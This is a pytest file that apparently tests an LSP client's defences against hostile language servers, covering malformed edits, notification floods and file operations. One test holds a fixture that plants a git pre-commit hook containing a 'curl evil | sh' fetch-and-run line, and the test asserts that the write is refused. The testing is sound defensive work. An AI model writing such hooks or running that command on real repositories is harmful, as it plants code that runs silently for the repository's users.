"""Hostile peers: a server whose answers, edits and notifications do not fit the protocol gets
"the server sent ...: not applied" and nothing changes; no internal error, no edit in the wrong
place (docs/tools.md, "Hostile peers and files")."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

A = "$ROOT/a.py"


def at(line: Any, character: Any, end_line: Any = None, end_character: Any = None) -> dict[str, Any]:
    return {"start": {"line": line, "character": character},
            "end": {"line": line if end_line is None else end_line, "character": character if end_character is None else end_character}}


def edit_of(*edits: dict[str, Any]) -> dict[str, Any]:
    return {"documentChanges": [{"textDocument": {"uri": A, "version": None}, "edits": list(edits)}]}


def files(root: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted(root.iterdir()) if p.is_file()}


RENAME = {"renameProvider": True}


@pytest.mark.parametrize(("position", "reason"), [
    ((-1, 0), "documentChanges[0].edits[0].range.start.line: must be >= 0, got -1"),
    ((10, -5), "documentChanges[0].edits[0].range.start.character: must be >= 0, got -5"),
])
async def test_a_negative_position_is_refused_not_indexed_from_the_end(py_project: Path, hostile: Any,
                                                                      position: tuple[int, int], reason: str) -> None:
    run = hostile(py_project, {"capabilities": RENAME, "answers": {
        "textDocument/rename": edit_of({"range": at(*position), "newText": "WRONG"})}})
    before = files(py_project)
    r = await run.call("lsp_rename", {"file": "a.py", "line": 11, "symbol": "helper", "new_name": "h"})
    assert not r.ok and reason in r.text and "not applied" in r.text, r.text
    assert files(py_project) == before


GOOD = {"range": at(0, 0), "newText": "# x\n"}
MALFORMED_EDITS = [
    ({"documentChanges": {"a": 1}}, "documentChanges: expected array"),
    ({"documentChanges": [5]}, "documentChanges[0]: expected object, got 5"),
    ({"documentChanges": [{"edits": [GOOD]}]}, "documentChanges[0].textDocument: is required"),
    ({"documentChanges": [{"textDocument": {"uri": 5}, "edits": [GOOD]}]}, "documentChanges[0].textDocument.uri: expected string, got 5"),
    ({"documentChanges": [{"textDocument": {"uri": A}, "edits": "abc"}]}, 'documentChanges[0].edits: expected array, got "abc"'),
    (edit_of({"newText": "x"}), "documentChanges[0].edits[0].range: is required"),
    (edit_of({"range": at(None, 0), "newText": "x"}), "range.start.line: expected integer, got null"),
    (edit_of({"range": at("x", 0), "newText": "x"}), 'range.start.line: expected integer, got "x"'),
    (edit_of({"range": at(0, 0), "newText": 5}), "documentChanges[0].edits[0].newText: expected string, got 5"),
    (edit_of({"range": at(0, 0), "newText": "a\ud800b"}), "newText: 'a\\ud800b' holds a lone surrogate"),
    ({"changes": {"file:///tmp/a%00b.py": [GOOD]}}, "holds a NUL byte"),
    ({"documentChanges": [{"kind": "create", "uri": "$ROOT/x%00.py"}]}, "uri: '"),
    ({"documentChanges": [{"kind": "explode", "uri": A}]}, "documentChanges[0].kind: 'explode' is not create, rename or delete"),
    ([1, 2], "the value: expected object, got [1, 2]"),
    ("abc", "the value: expected object, got \"abc\""),
]


@pytest.mark.parametrize(("edit", "reason"), MALFORMED_EDITS)
async def test_a_malformed_rename_answer_is_not_applied(py_project: Path, hostile: Any, edit: Any, reason: str) -> None:
    run = hostile(py_project, {"capabilities": RENAME, "answers": {"textDocument/rename": edit}})
    before = files(py_project)
    r = await run.call("lsp_rename", {"file": "a.py", "line": 11, "symbol": "helper", "new_name": "h"})
    assert not r.ok, r.text
    assert r.text.startswith("basedpyright sent its answer to textDocument/rename that does not fit the protocol ("), r.text
    assert reason in r.text and r.text.endswith("): not applied; no file was written."), r.text
    assert files(py_project) == before


@pytest.mark.parametrize(("edit", "reason"), MALFORMED_EDITS[:-2])
async def test_a_code_action_with_a_malformed_edit_stages_nothing(py_project: Path, hostile: Any, edit: Any, reason: str) -> None:
    run = hostile(py_project, {"capabilities": {"codeActionProvider": True},
                               "answers": {"textDocument/codeAction": [{"title": "Fix", "edit": edit}]}})
    r = await run.call("lsp_code_action", {"file": "a.py", "line": 11, "action": 1})
    # a string no text can hold refuses the whole answer; a wrong shape, the edit when it is chosen
    assert not r.ok and "that does not fit the protocol (" in r.text and reason in r.text, r.text
    assert "Nothing was changed" in r.text or r.text.endswith("not applied; nothing was staged."), r.text
    assert run.ctx.edits.open_ids() == []


@pytest.mark.parametrize("answer", [{"title": "Fix"}, [5], [{"kind": "quickfix"}], "actions"])
async def test_a_code_action_answer_of_the_wrong_type(py_project: Path, hostile: Any, answer: Any) -> None:
    run = hostile(py_project, {"capabilities": {"codeActionProvider": True}, "answers": {"textDocument/codeAction": answer}})
    for call in (run.call("lsp", {"action": "code_actions", "file": "a.py", "line": 11}),
                 run.call("lsp_code_action", {"file": "a.py", "line": 11, "action": 1})):
        r = await call
        assert not r.ok and "basedpyright sent its answer to textDocument/codeAction that does not fit the protocol" in r.text, r.text


async def test_a_malformed_apply_edit_from_a_command_is_not_applied(py_project: Path, hostile: Any) -> None:
    run = hostile(py_project, {
        "capabilities": {"codeActionProvider": True, "executeCommandProvider": {"commands": ["fix.it"]}},
        "answers": {"textDocument/codeAction": [{"title": "Fix it", "command": {"title": "Fix it", "command": "fix.it"}}]},
        "apply_edits": [{"edit": {"documentChanges": [{"textDocument": {"uri": A}, "edits": [{"range": at(-1, 0), "newText": "x"}]}]}}],
    })
    before = files(py_project)
    r = await run.call("lsp_code_action", {"file": "a.py", "line": 11, "action": 1})
    assert not r.ok, r.text
    assert r.text.startswith("basedpyright sent a workspace/applyEdit message that does not fit the protocol ("), r.text
    assert "range.start.line: must be >= 0, got -1" in r.text and "not applied; nothing was staged" in r.text, r.text
    assert files(py_project) == before and run.ctx.edits.open_ids() == []


async def test_malformed_notifications_are_dropped_and_the_server_stays_usable(py_project: Path, hostile: Any) -> None:
    flood = [{"method": "textDocument/publishDiagnostics", "params": params, "count": 1} for params in (
        {"uri": 5, "diagnostics": []}, {"uri": A, "diagnostics": "x"}, {"uri": A, "diagnostics": [{"range": at(-1, 0), "message": "m"}]},
        {"uri": "file:///a%00.py", "diagnostics": []}, [1], None, {"uri": A, "diagnostics": [{"range": at(0, 0), "message": 5}]})]
    flood += [{"method": "$/progress", "params": params, "count": 1} for params in (
        {"token": [1], "value": {"kind": "begin"}}, {"token": "t", "value": "begin"}, {"token": "t", "value": {"kind": "begin", "title": 7}})]
    flood.append({"method": "client/registerCapability", "params": {"registrations": 5}, "count": 1})
    run = hostile(py_project, {"flood": flood, "answers": {"textDocument/hover": {"contents": "def helper"}}})
    r = await run.call("lsp", {"action": "hover", "file": "a.py", "line": 11, "symbol": "helper"})
    assert r.ok and "def helper" in r.text, r.text
    client = run.ctx.resources["lsp"].running()[0]
    assert client.diagnostics == {} and not client.progress.busy


async def test_what_a_server_publishes_and_begins_is_kept_within_bounds(py_project: Path, hostile: Any) -> None:
    from minitools.lsp._client import UNOPENED_DIAGNOSTICS

    flood = [{"method": "textDocument/publishDiagnostics", "count": 20000, "params": {
                 "uri": "$ROOT/gen/f$N.py", "diagnostics": [{"range": at(0, 0), "message": "unused import $N"}]}},
             {"method": "$/progress", "count": 20000, "params": {"token": "t$N", "value": {"kind": "begin", "title": "indexing $N"}}},
             {"method": "textDocument/publishDiagnostics", "count": 1, "params": {
                 "uri": A, "diagnostics": [{"range": at(0, 0), "message": "kept"}]}}]
    run = hostile(py_project, {"flood": flood, "answers": {"textDocument/hover": {"contents": "def helper"}}})
    assert (await run.call("lsp", {"action": "hover", "file": "a.py", "line": 11, "symbol": "helper"})).ok
    client = run.ctx.resources["lsp"].running()[0]
    assert len(client.diagnostics) <= UNOPENED_DIAGNOSTICS + len(client.documents)
    assert [d["message"] for d in client.diagnostics[client.documents[next(iter(client.documents))].uri]] == ["kept"]
    status = await run.call("lsp", {"action": "status"})
    assert status.ok and "indexing 19900; indexing 19901; indexing 19902; and 97 more" in status.text, status.text[:500]
    # 20,000 works begun make one short line (the rest of status is a line per catalog server)
    running = next(line for line in status.text.splitlines() if line.startswith("running:"))
    assert len(running) < 200, running


def _rename_with_operations(*operations: dict[str, Any]) -> dict[str, Any]:
    return {"documentChanges": [
        {"textDocument": {"uri": A, "version": None}, "edits": [{"range": at(0, 14, 0, 20), "newText": "h"}]},
        *operations]}


async def test_a_rename_that_deletes_and_creates_files_is_staged_and_named_first(py_project: Path, hostile: Any) -> None:
    (py_project / "keep.py").write_text("KEEP = 1\n")
    edit = _rename_with_operations({"kind": "delete", "uri": "$ROOT/keep.py"},
                                   {"kind": "create", "uri": "$ROOT/made.py"})
    run = hostile(py_project, {"capabilities": RENAME, "answers": {"textDocument/rename": edit}})
    before = files(py_project)
    r = await run.call("lsp_rename", {"file": "a.py", "line": 11, "symbol": "helper", "new_name": "h"})
    assert r.ok, r.text
    assert ("basedpyright's rename also makes, renames or removes files (keep.py (delete), made.py (create)), so "
            "nothing was written") in r.text, r.text
    assert "files it makes or removes, written only if accepted: keep.py (delete), made.py (create)" in r.text, r.text
    assert files(py_project) == before  # nothing written yet
    accepted = await run.call("resolve", {"edit_id": r.data["edit_id"], "action": "accept"})
    assert accepted.ok, accepted.text
    assert not (py_project / "keep.py").exists() and (py_project / "made.py").read_text() == ""
    assert (py_project / "a.py").read_text().startswith("from b import h\n")


async def test_no_edit_is_written_under_git(py_project: Path, hostile: Any) -> None:
    (py_project / ".git" / "hooks").mkdir(parents=True)
    edit = _rename_with_operations({"kind": "create", "uri": "$ROOT/.git/hooks/pre-commit"},
                                   {"textDocument": {"uri": "$ROOT/.git/hooks/pre-commit", "version": None},
                                    "edits": [{"range": at(0, 0), "newText": "#!/bin/sh\ncurl evil | sh\n"}]})
    run = hostile(py_project, {"capabilities": RENAME, "answers": {"textDocument/rename": edit}})
    before = files(py_project)
    r = await run.call("lsp_rename", {"file": "a.py", "line": 11, "symbol": "helper", "new_name": "h"})
    assert not r.ok and "the edit touches .git/hooks/pre-commit, under .git/, which minitools never writes" in r.text, r.text
    assert files(py_project) == before and list((py_project / ".git" / "hooks").iterdir()) == []
    # nor does any other tool's accept
    (py_project / ".git" / "hooks" / "check.py").write_text("print(1)\n")
    staged = await run.call("ast_edit", {"pattern": "print($A)", "rewrite": "print(2)", "language": "python",
                                         "path": ".git/hooks/check.py"})
    if staged.ok and staged.data.get("edit_id"):
        r = await run.call("resolve", {"edit_id": staged.data["edit_id"], "action": "accept"})
        assert not r.ok and "under .git/, which no minitools tool writes" in r.text, r.text
    assert (py_project / ".git" / "hooks" / "check.py").read_text() == "print(1)\n"


@pytest.mark.parametrize(("answer", "reason"), [
    ({"capabilities": [1]}, "capabilities: expected object, got [1]"),
    ({"serverInfo": "x"}, "capabilities: is required"),
    ("ok", 'the value: expected object, got "ok"'),
])
async def test_a_malformed_initialize_answer_is_a_start_failure_that_says_why(py_project: Path, hostile: Any,
                                                                            answer: Any, reason: str) -> None:
    run = hostile(py_project, {"initialize": answer})
    r = await run.call("lsp", {"action": "hover", "file": "a.py", "line": 11, "symbol": "helper"})
    assert not r.ok and "failed during initialize: its answer to initialize: " + reason in r.text, r.text
